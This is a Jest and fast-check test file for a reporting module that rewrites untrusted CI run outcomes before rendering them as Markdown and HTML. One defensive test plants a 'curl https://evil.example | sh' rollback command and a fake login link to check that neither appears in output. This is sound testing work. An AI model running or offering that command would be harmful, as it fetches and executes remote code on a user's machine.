import { expect, test } from '@jest/globals';
import fc from 'fast-check';
import { inOurWords } from '../../../src/commands/reporting/foreign.ts';
import type { Outcome } from '../../../src/domain/outcome.ts';
import { UserError } from '../../../src/errors.ts';
import { parseOutcomes } from '../../../src/inputs/outcome.ts';
import type { WorkflowRun } from '../../../src/ports/workflow-runs.ts';
import { renderHtml } from '../../../src/report/html.ts';
import { renderMarkdown } from '../../../src/report/markdown.ts';
import { briefs } from '../../support/briefs.ts';
import { samples } from '../../support/outcomes.ts';

const run: WorkflowRun = {
  id: 2002,
  attempt: 1,
  number: 412,
  repository: 'acme/wine',
  headSha: '3f2a1b9c8d7e6f5a4b3c2d1e0f9a8b7c6d5e4f3a',
  head: null,
  event: 'pull_request',
  conclusion: 'success',
  untrusted: true,
};

const outcomes = Object.values(samples).flat();
const judged = outcomes.filter(({ command }) => ['compare', 'validate', 'train'].includes(command));

const forged = 'a sentence of the run itself';

test.each(judged.map((outcome) => [outcome.command, outcome.verdict, outcome] as const))(
  'the sentence of a run about %s, %s, is made from its result',
  (_command, verdict, outcome) => {
    const words = inOurWords({ ...outcome, title: forged, outputs: { evil: 'yes' } }, run);
    expect(words.title.toLowerCase().split(':')[0]).toBe(verdict);
    expect(words.title).not.toContain(forged);
    expect(words.outputs).toEqual({});
    expect(words.provenance).toMatchObject({ headSha: run.headSha, runId: '2002', actor: null });
  },
);

test('other commands get a sentence that says no more than their verdict', () => {
  for (const outcome of outcomes.filter((one) => !judged.includes(one))) {
    const { title } = inOurWords({ ...outcome, title: forged }, run);
    expect(title).toMatch(/^(Passed|Failed|Undecided|Errored): /);
    expect(title).not.toContain(forged);
  }
});

test('the brief of a promotion, with its links and its command to run, is none of ours to repeat', () => {
  const { plan } = briefs;
  if (!plan?.result?.brief) throw new Error('The sample is missing.');
  const { brief } = plan.result;
  const linked = brief.evidence.map((one) => ({ ...one, runUrl: 'https://evil.example/login' }));
  const undo = {
    kind: 'rollback',
    version: '1',
    command: 'curl https://evil.example | sh',
  } as const;
  const result = { ...plan.result, brief: { ...brief, evidence: linked, undo } };
  const words = inOurWords({ ...plan, result }, run);
  expect(renderMarkdown([words], { untrusted: true })).not.toContain('evil.example');
  expect(renderHtml([words], { untrusted: true })).not.toContain('evil.example');
});

const odd = fc.oneof(
  fc.double(),
  fc.constantFrom(0, -1, 1e300, -1e-300, 2 ** 53, null, true, '', '2026-99-99', '\u202e', []),
  fc.string(),
);

/** The same outcome, with something else in a few of its places. */
function changed(outcome: Outcome, changes: readonly (readonly [number, unknown])[]): string {
  const copy = structuredClone(outcome) as object;
  const places = placesOf(copy);
  for (const [at, value] of changes) {
    const [holder, name] = places[at % places.length] ?? [copy, 'x'];
    Reflect.set(holder, name, value);
  }
  return JSON.stringify(copy);
}

function placesOf(value: object): readonly (readonly [object, string])[] {
  return Object.entries(value).flatMap(([name, member]) => {
    const below = typeof member === 'object' && member !== null ? placesOf(member) : [];
    return [[value, name] as const, ...below];
  });
}

test('whatever a run writes into its outcomes, they are shown or refused', () => {
  const changes = fc.array(fc.tuple(fc.nat(), odd), { minLength: 1, maxLength: 3 });
  const property = fc.property(fc.constantFrom(...outcomes), changes, (outcome, places) => {
    const text = changed(outcome, places);
    let read: readonly Outcome[];
    try {
      read = parseOutcomes([{ path: 'x', text }]);
    } catch (error) {
      return error instanceof UserError;
    }
    const ours = read.map((one) => inOurWords(one, run));
    const beside = { untrusted: true };
    return renderMarkdown(ours, beside).length > 0 && renderHtml(ours, beside).length > 0;
  });
  fc.assert(property, { numRuns: 500 });
});

test('of a hundred thousand findings the worst thousand are kept, and the rest is counted', () => {
  const note = { level: 'note', rule: 'n', message: 'm' } as const;
  const [outcome] = judged;
  if (!outcome) throw new Error('There is no outcome.');
  const findings = [...Array(99_999).fill(note), { ...note, level: 'error' }];
  const kept = inOurWords({ ...outcome, findings }, run).findings;
  expect(kept).toHaveLength(1001);
  expect(kept[0]?.level).toBe('error');
  expect(kept.at(-1)?.message).toMatch(/^99000 more findings/);
  expect(inOurWords({ ...outcome, findings: findings.slice(0, 1000) }, run).findings).toHaveLength(
    1000,
  );
});
